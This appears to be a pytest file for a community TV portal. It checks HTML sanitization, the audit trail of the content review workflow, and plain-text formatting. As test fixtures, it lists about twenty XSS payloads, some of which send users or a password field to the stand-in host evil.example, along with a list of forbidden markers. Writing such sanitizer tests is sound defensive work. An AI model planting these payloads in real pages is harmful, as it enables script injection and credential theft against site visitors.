"""Hostile HTML is stripped at save; the audit trail holds every step and verifies."""

from portal_server.content import queries
from portal_server.core import audit

from .conftest import V001

HOSTILE = [
    '<p>通知</p><script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<body onload="alert(1)">',
    '<div onclick="steal()">点</div>',
    '<form action="https://evil.example/"><input name="pw"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<style>body{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="javascript:alert(1)">',
    '<scr<script>ipt>alert(1)</script>',
    '<!--<script>alert(1)</script>-->',
    '<base href="https://evil.example/">',
]
FORBIDDEN = ("<script", "onerror", "onload", "onclick", "javascript:", "<iframe", "style=", "<style",
             "<form", "<object", "<embed", "<svg", "<meta", "<link", "<base", "alert(1)</")


def test_hostile_bodies_are_stripped_everywhere(api, publish, client, box):
    """Each payload, published, is harmless in the API, the TV dict and the box's listing."""
    from .conftest import household_box

    ids = {publish(body=payload, title=f"恶意{n}"): payload for n, payload in enumerate(HOSTILE)}
    items = client.get("/api/v1/terminal/contents", headers=box(household_box(V001))).get_json()["items"]
    boxed = {i["id"]: i["body"] for i in items}
    edited = api("v001-editor", "patch", f"/contents/{next(iter(ids))}", json={"body": HOSTILE[0] + HOSTILE[1]})
    assert edited.status_code == 200
    for cid, payload in ids.items():
        stored = api("v001-editor", "get", f"/contents/{cid}").get_json()["body"]
        for body in (stored, queries.tv_item(cid, V001)["body"], boxed[cid]):
            low = body.lower()
            assert not any(bad in low for bad in FORBIDDEN), (payload, body)
    assert "<script" not in edited.get_json()["body"] and "onerror" not in edited.get_json()["body"]


def test_safe_markup_survives(api, draft):
    body = ('<h3>小标题</h3><p>第一段<strong>加粗</strong><em>强调</em></p><ul><li>一</li><li>二</li></ul>'
            '<table><tr><td>收入</td><td>48,000</td></tr></table><a href="https://www.gov.cn/">政府网</a>')
    got = draft(body=body)["body"]
    for kept in ("<h3>小标题</h3>", "<strong>加粗</strong>", "<li>一</li>", "<td>48,000</td>",
                 'href="https://www.gov.cn/"', 'rel="noopener noreferrer"'):
        assert kept in got
    assert draft(body="<p>a &lt; b &amp; c</p>")["summary"] == "a < b & c"
    long = draft(body="<p>" + "长" * 200 + "</p>")["summary"]
    assert len(long) == 80 and long.endswith("…")


def test_audit_trail_holds_every_step_and_verifies(api, draft):
    item = draft()
    cid = item["id"]
    api("v001-editor", "post", f"/contents/{cid}/submit")
    api("v001-reviewer", "post", f"/contents/{cid}/reject", json={"reason": "请补充时间"})
    api("v001-editor", "patch", f"/contents/{cid}", json={"body": "<p>时间：本周六</p>"})
    api("v001-editor", "post", f"/contents/{cid}/submit")
    api("town01-reviewer", "post", f"/contents/{cid}/approve")
    api("v001-editor", "patch", f"/contents/{cid}", json={"title": "更正后的标题"})
    api("v001-editor", "post", f"/contents/{cid}/submit")
    api("v001-reviewer", "post", f"/contents/{cid}/approve")
    api("v001-reviewer", "post", f"/contents/{cid}/withdraw", json={"reason": "活动取消"})
    trail = [(e.action, e.actor) for e in audit.events_for("content", cid)]
    assert trail == [("content.create", "v001-editor"), ("content.submit", "v001-editor"),
                     ("content.reject", "v001-reviewer"), ("content.edit", "v001-editor"),
                     ("content.submit", "v001-editor"), ("content.approve", "town01-reviewer"),
                     ("content.publish", "town01-reviewer"), ("content.edit", "v001-editor"),
                     ("content.submit", "v001-editor"), ("content.approve", "v001-reviewer"),
                     ("content.publish", "v001-reviewer"), ("content.withdraw", "v001-reviewer")]
    result = audit.verify()
    assert result.ok, result.problem
    # The command operators run says the same.
    import os
    import subprocess
    import sys

    from flask import current_app

    from portal_server.core.db import session
    from tests.conftest import TEST_SECRET

    s = current_app.config["SETTINGS"]
    session.remove()  # SQLite: let the other process read
    env = {**os.environ, "COMMUNITV_DATA_DIR": str(s.data_dir), "COMMUNITV_DATABASE_URL": s.database_url,
           "COMMUNITV_SECRET_KEY": TEST_SECRET, "COMMUNITV_REDIS_URL": s.redis_url,
           "COMMUNITV_MQTT_URL": s.mqtt_url}
    out = subprocess.run([sys.executable, "-m", "portal_server.cli", "audit", "verify"], env=env,
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0 and "intact" in out.stdout, out.stdout + out.stderr


def test_plain_text_becomes_paragraphs(draft):
    """Village editors type plain text: a blank line is a new paragraph, a line break stays one."""
    got = draft(body="冬季注意用电安全。\n不要私拉电线。\n\n有问题请找村电工 <张师傅> & 网格员。")["body"]
    assert got == ("<p>冬季注意用电安全。<br>不要私拉电线。</p>"
                   "<p>有问题请找村电工 &lt;张师傅&gt; &amp; 网格员。</p>")
